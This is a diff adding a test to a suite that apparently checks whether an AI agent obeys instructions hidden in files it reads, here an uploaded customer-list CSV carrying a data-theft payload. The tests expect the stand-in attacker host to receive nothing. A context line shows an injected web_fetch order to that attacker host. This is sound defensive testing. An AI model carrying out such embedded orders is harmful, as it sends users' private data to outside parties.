@@ -152,6 +152,14 @@ describe('an order in what is read, to a host nobody named', () => {
     expect(evil.seen).toHaveLength(2);
   });
 
+  test('in a file that was uploaded and never sent along', async () => {
+    const task_id = await person.newTask();
+    await person.upload(task_id, '客户名单.csv', csv(theft()));
+    await person.get('SendMessage', { task_id, query: `看看 ${readIt}` });
+    expect((await standing(task_id)).question).toMatchObject({ why: ['unnamed', 'carries'] });
+    expect(evil.seen).toEqual([]);
+  });
+
   test('a host that was let through for the task is not asked about again', async () => {
     const more = order('web_fetch', { url: `${evil.address}/more` });
     const done = await say(await ask(`整理附件 ${readIt}`, { '客户名单.csv': csv(theft() + more) }), 'place');
